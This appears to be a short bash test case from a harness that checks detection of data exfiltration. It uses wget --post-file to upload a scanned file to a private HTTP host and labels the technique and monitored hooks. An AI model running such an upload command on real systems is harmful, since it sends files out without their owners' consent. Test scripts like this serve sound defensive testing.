#!/usr/bin/env bash
# technique: wget --post-file
# hooks: file_open (of the scan), socket_connect
# sink: private-http
# innocent: 600

. attack.sh
timeout 8 wget -q -T 6 -t 1 -O /dev/null --post-file="$SCAN" "http://$PRIVATE_HOST:$PORT_HTTP/$here.tif"
